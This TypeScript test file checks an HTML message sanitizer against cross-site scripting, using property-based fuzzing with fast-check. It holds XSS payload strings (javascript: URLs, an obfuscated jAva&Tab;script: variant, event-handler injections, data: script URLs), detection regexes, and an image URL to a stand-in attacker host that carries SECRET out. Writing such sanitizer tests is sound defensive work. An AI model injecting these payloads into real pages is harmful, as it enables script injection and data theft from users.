// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { sanitizeMessageHtml } from './sanitize-message-html';
import { dangersIn, parse, XSS_PAYLOADS } from './xss-fixtures';

/** The sanitized HTML with its text taken out: tags and attributes only. */
function markupOf(html: string): string {
  const root = parse(html);
  const walker = document.createTreeWalker(root, NodeFilter.SHOW_TEXT);
  const texts: Node[] = [];
  while (walker.nextNode()) texts.push(walker.currentNode);
  for (const text of texts) text.textContent = '';
  return root.innerHTML;
}

describe('sanitizeMessageHtml', () => {
  it.each(XSS_PAYLOADS)('leaves nothing that can run or load in %s', (payload) => {
    const clean = sanitizeMessageHtml(payload);
    expect(dangersIn(parse(clean))).toEqual([]);
    expect(clean).not.toMatch(/<script|\son\w+=|javascript:/i);
  });

  it('keeps ordinary formatted text, links (opened in a new tab without a hold on us) and mention tokens', () => {
    const html =
      '<p dir="ltr"><b><strong>Bold</strong></b> and <i><em>italic</em></i> and <code>code</code></p>' +
      '<ul><li>one</li></ul>' +
      '<p><a href="https://example.com/a?b=1">a link</a> <a href="/notes">ours</a></p>' +
      '<p><span data-lexical-beautiful-mention="true" data-lexical-beautiful-mention-trigger="@" ' +
      'data-lexical-beautiful-mention-value="Groceries" data-lexical-beautiful-mention-data="{&quot;id&quot;:&quot;n1&quot;}">@Groceries</span></p>';
    const root = parse(sanitizeMessageHtml(html));
    expect(root.querySelector('strong')?.textContent).toBe('Bold');
    expect(root.querySelector('em')?.textContent).toBe('italic');
    expect(root.querySelector('code')?.textContent).toBe('code');
    expect(root.querySelector('li')?.textContent).toBe('one');
    const links = [...root.querySelectorAll('a')];
    expect(links.map((a) => a.getAttribute('href'))).toEqual(['https://example.com/a?b=1', '/notes']);
    for (const link of links) {
      expect(link.getAttribute('target')).toBe('_blank');
      expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    }
    const mention = root.querySelector('[data-lexical-beautiful-mention]');
    expect(mention?.textContent).toBe('@Groceries');
    expect(mention?.getAttribute('data-lexical-beautiful-mention-data')).toBe('{"id":"n1"}');
  });

  it('overrides a target or rel the input chose, and drops a target on a link with no address', () => {
    const root = parse(
      sanitizeMessageHtml('<a href="https://example.com" target="_self" rel="opener">x</a><a target="_top">y</a>'),
    );
    const [link, plain] = root.querySelectorAll('a');
    expect(link!.getAttribute('target')).toBe('_blank');
    expect(link!.getAttribute('rel')).toBe('noopener noreferrer');
    expect(plain!.hasAttribute('target')).toBe(false);
  });

  it('keeps our own and inline images, never another site’s (no request without a click)', () => {
    const root = parse(
      sanitizeMessageHtml(
        '<img src="/api/p.png" alt="ours"><img src="data:image/png;base64,iVBORw0KGgo=" alt="inline">' +
          '<img src="https://attacker.test/p.png?d=SECRET" alt="theirs"><img src="//attacker.test/p.png" alt="relative-protocol">' +
          '<img src="data:image/svg+xml,<svg/>" alt="svg">',
      ),
    );
    const images = [...root.querySelectorAll('img')];
    expect(images.map((img) => [img.alt, img.getAttribute('src')])).toEqual([
      ['ours', '/api/p.png'],
      ['inline', 'data:image/png;base64,iVBORw0KGgo='],
      ['theirs', null],
      ['relative-protocol', null],
      ['svg', null],
    ]);
  });

  it('drops class, style, id and name: a message cannot dress up as the page', () => {
    const root = parse(
      sanitizeMessageHtml('<p class="fixed inset-0 z-50" style="color:red" id="main" name="x" title="kept">hi</p>'),
    );
    const p = root.querySelector('p')!;
    expect([...p.attributes].map((a) => a.name)).toEqual(['title']);
  });

  it('is idempotent, never throws and never outputs /<script|\\son\\w+=|javascript:/i, for any string (property)', () => {
    fc.assert(
      fc.property(fc.oneof(fc.constantFrom(...XSS_PAYLOADS), fc.string(), fc.string({ unit: 'binary' })), (dirty) => {
        const once = sanitizeMessageHtml(dirty);
        expect(sanitizeMessageHtml(once)).toBe(once);
        expect(once).not.toMatch(/<script|\son\w+=|javascript:/i);
      }),
      { numRuns: 200 },
    );
  }, 60_000);

  it('never outputs a script, a handler or a javascript: address, however the payload pieces combine (property)', () => {
    const tag = fc.constantFrom(
      'a',
      'img',
      'p',
      'div',
      'span',
      'svg',
      'math',
      'mi',
      'g',
      'script',
      'iframe',
      'form',
      'object',
      'embed',
      'style',
      'textarea',
      'noscript',
      'title',
      'table',
      'td',
      'template',
      'select',
      'xmp',
    );
    const attribute = fc.tuple(
      fc.constantFrom(
        'href',
        'src',
        'onerror',
        'onload',
        'onclick',
        'xlink:href',
        'srcdoc',
        'style',
        'title',
        'action',
        'data-x',
      ),
      fc.constantFrom(
        'javascript:alert(1)',
        'jAva&Tab;script:alert(1)',
        ' javascript:alert(1)',
        'data:text/html,<script>alert(1)</script>',
        'https://attacker.test/p.png',
        'alert(1)',
        '<script>alert(1)</script>',
        '" onmouseover="alert(1)',
        'x',
      ),
    );
    const word = fc.constantFrom('hello', 'world', '1 < 2', 'a & b', ' ');
    const node: fc.Arbitrary<string> = fc.letrec<{ node: string }>((tie) => ({
      node: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        word,
        fc
          .tuple(tag, fc.array(attribute, { maxLength: 3 }), fc.array(tie('node'), { maxLength: 3 }), fc.boolean())
          .map(
            ([name, attrs, children, closed]) =>
              `<${name}${attrs.map(([key, value]) => ` ${key}="${value}"`).join('')}>${children.join('')}${closed ? `</${name}>` : ''}`,
          ),
      ),
    })).node;
    fc.assert(
      fc.property(fc.array(node, { maxLength: 4 }), (pieces) => {
        const clean = sanitizeMessageHtml(pieces.join(''));
        // Text may say "javascript:" (a payload cut short becomes text); text is escaped and cannot form markup.
        expect(markupOf(clean)).not.toMatch(/<script|\son\w+=|javascript:/i);
        expect(dangersIn(parse(clean))).toEqual([]);
        expect(sanitizeMessageHtml(clean)).toBe(clean);
      }),
      { numRuns: 400 },
    );
  }, 60_000);
});
